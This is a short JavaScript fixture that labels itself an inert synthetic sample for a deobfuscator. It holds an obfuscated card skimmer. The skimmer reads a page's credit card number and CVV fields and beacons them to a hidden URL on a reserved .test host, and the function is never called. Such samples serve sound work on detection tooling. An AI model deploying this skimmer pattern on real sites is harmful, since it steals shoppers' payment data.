/* Synthetic training sample for the deobfuscator. Inert: the endpoint is a
   reserved .test domain and the function is never called by anything. */
(function () {
  var _0x1a = [String.fromCharCode(104,116,116,112,115,58,47,47), "\x73\x74\x61\x74\x69\x63\x2d\x63\x64\x6e", ".analytics-pixel" + ".test", atob("L2NvbGxlY3Q=")];
  function _0xgrab() {
    var f = document.querySelector("input[name=cc_number]"), c = document.querySelector("#cvv");
    if (!f || !c) return;
    navigator.sendBeacon(_0x1a[0] + _0x1a[1] + _0x1a[2] + _0x1a[3], JSON.stringify({ n: f.value, c: c.value }));
  }
  void _0xgrab;
})();
